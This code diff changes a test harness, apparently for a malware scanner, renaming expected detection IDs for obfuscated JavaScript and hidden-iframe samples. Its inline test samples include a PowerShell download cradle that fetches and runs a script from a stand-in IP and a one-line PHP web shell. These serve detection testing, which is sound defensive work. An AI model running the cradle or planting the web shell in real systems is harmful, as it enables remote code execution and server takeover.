@@ -19,7 +19,7 @@ import { parseArgs } from 'node:util';
 import { fileURLToPath } from 'node:url';
 import { buildPe } from '../apps/pe/fixture.ts';
 import { macroDoc, macroDocm } from '../apps/office/fixture.ts';
-import { HIDDEN_IFRAME_HTML, obfuscatedJs } from '../apps/web/fixture.ts';
+import { HIDDEN_IFRAME_HTML, obfuscatedJs } from '../apps/script/fixture.ts';
 import { eicar, pdfRunningJavaScript, randomFuid, zipOf } from '../source/demo/samples.ts';
 
 const REPO = fileURLToPath(new URL('../', import.meta.url));
@@ -53,8 +53,8 @@ export function badSamples(quick: boolean): Sample[] {
     { label: 'PDF with #xx-hidden names', name: named('application/pdf', 'pdf'), bytes: Buffer.from(PDF_JS.replace('/JavaScript', '/J#61va#53cript').replace('/OpenAction', '/Open#41ction')), expect: 'pdf.name-obfuscation' },
     { label: 'Word .doc with an AutoOpen macro', name: named('application/msword', 'doc'), bytes: macroDoc(), expect: 'office.macro.auto-exec-shell' },
     { label: 'Word .docm with an AutoOpen macro', name: named('application/vnd.ms-word.document.macroenabled.12', 'docm'), bytes: macroDocm(), expect: 'office.macro.auto-exec-shell' },
-    { label: 'obfuscated JavaScript', name: named('application/javascript', 'js'), bytes: Buffer.from(obfuscatedJs()), expect: 'js.obfuscation' },
-    { label: 'HTML with a hidden iframe', name: named('text/html', 'html'), bytes: Buffer.from(HIDDEN_IFRAME_HTML), expect: 'html.hidden-iframe' },
+    { label: 'obfuscated JavaScript', name: named('application/javascript', 'js'), bytes: Buffer.from(obfuscatedJs()), expect: 'script.download-execute' },
+    { label: 'HTML with a hidden iframe', name: named('text/html', 'html'), bytes: Buffer.from(HIDDEN_IFRAME_HTML), expect: 'script.html.hidden-iframe' },
     { label: 'PowerShell download cradle', name: named('text/plain', 'ps1'), bytes: Buffer.from("IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.4/a.ps1')\n"), expect: 'yara.powershell_download_cradle' },
     { label: 'PHP web shell', name: named('text/x-php', 'php'), bytes: Buffer.from('<?php if(isset($_POST["c"])){ system($_POST["c"]); } ?>\n'), expect: 'yara.php_web_shell' },
     { label: 'PE with UPX sections, injection imports', name: named('application/x-dosexec', 'exe'), bytes: buildPe({ sections: ['UPX0', 'UPX1', '.rsrc'], imports: { 'kernel32.dll': ['VirtualAllocEx', 'WriteProcessMemory', 'CreateRemoteThread'] } }), expect: 'pe.packer.upx' },
